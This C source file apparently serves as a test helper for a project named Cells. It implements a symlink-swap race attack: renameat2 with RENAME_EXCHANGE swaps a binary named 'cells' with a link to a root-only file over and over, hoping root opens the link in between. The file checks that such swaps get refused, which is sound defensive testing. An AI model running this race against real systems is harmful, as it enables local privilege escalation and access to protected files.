/* The Cells user's attack on a binary directory it owns: swap `cells` and a symbolic link
 * (to a root-only file) atomically, over and over, with renameat2(RENAME_EXCHANGE), hoping
 * root opens the link in between. Runs until a swap is refused (the directory was adopted:
 * EACCES/EPERM) or STOPFILE exists, and keeps the number of swaps in COUNTFILE.
 *   exchanger DIR NAME_A NAME_B COUNTFILE STOPFILE
 *   exchanger --once DIR NAME_A NAME_B        (one swap, e.g. to put things back) */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static int swap(int dir, const char *a, const char *b) {
    return renameat2(dir, a, dir, b, RENAME_EXCHANGE);
}

int main(int argc, char **argv) {
    if (argc == 5 && strcmp(argv[1], "--once") == 0) {
        int dir = open(argv[2], O_DIRECTORY | O_RDONLY);
        if (dir < 0 || swap(dir, argv[3], argv[4]) != 0) { perror("exchange"); return 1; }
        return 0;
    }
    if (argc != 6) { fprintf(stderr, "usage: exchanger DIR A B COUNTFILE STOPFILE\n"); return 2; }
    int dir = open(argv[1], O_DIRECTORY | O_RDONLY);
    if (dir < 0) { perror(argv[1]); return 1; }
    unsigned long n = 0;
    for (;;) {
        if (swap(dir, argv[2], argv[3]) != 0) {
            fprintf(stderr, "exchange refused after %lu swaps: %s\n", n, strerror(errno));
            break;
        }
        n++;
        if (n % 64 == 0) {
            FILE *f = fopen(argv[4], "w");
            if (f) { fprintf(f, "%lu\n", n); fclose(f); }
            if (access(argv[5], F_OK) == 0) break;
        }
    }
    /* Leave things as found when the count is odd (the binary back in its place), if allowed. */
    if (n % 2 == 1 && swap(dir, argv[2], argv[3]) == 0) n++;
    FILE *f = fopen(argv[4], "w");
    if (f) { fprintf(f, "%lu\n", n); fclose(f); }
    return 0;
}
